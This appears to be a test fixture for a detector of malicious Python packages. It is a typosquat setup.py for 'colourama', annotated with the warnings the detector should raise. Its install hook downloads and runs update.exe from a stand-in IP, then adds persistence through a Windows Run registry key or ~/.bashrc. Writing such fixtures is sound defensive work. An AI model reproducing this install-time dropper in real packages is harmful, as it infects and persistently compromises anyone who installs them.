# A typosquat's setup script in the style that published reports describe:
# a post-install command that fetches a payload and makes it start at login.
import os
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install

URL = "http://203.0.113.7/update.exe"


def _persist(path):
    if sys.platform == "win32":
        import winreg
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE) as k:
            winreg.SetValueEx(k, "WindowsUpdate", 0, winreg.REG_SZ, path)  # want "autorun registry key"
    else:
        with open(os.path.expanduser("~/.bashrc"), "a") as f:  # want "writes to .bashrc"
            f.write("\nnohup %s >/dev/null 2>&1 &\n" % path)


class PostInstall(install):  # want "overrides the install command with class PostInstall, whose code reaches the network"
    def run(self):
        install.run(self)
        dest = os.path.join(tempfile.gettempdir(), "update.exe")
        urllib.request.urlretrieve(URL, dest)  # want "urllib.request.urlretrieve reaches the network at install time"
        subprocess.Popen([dest], close_fds=True)  # want "subprocess.Popen runs a command built at run time at install time"
        _persist(dest)


setup(
    name="colourama",
    version="0.1.6",
    description="Cross-platform colored terminal text.",
    packages=["colourama"],
    cmdclass={"install": PostInstall},
)
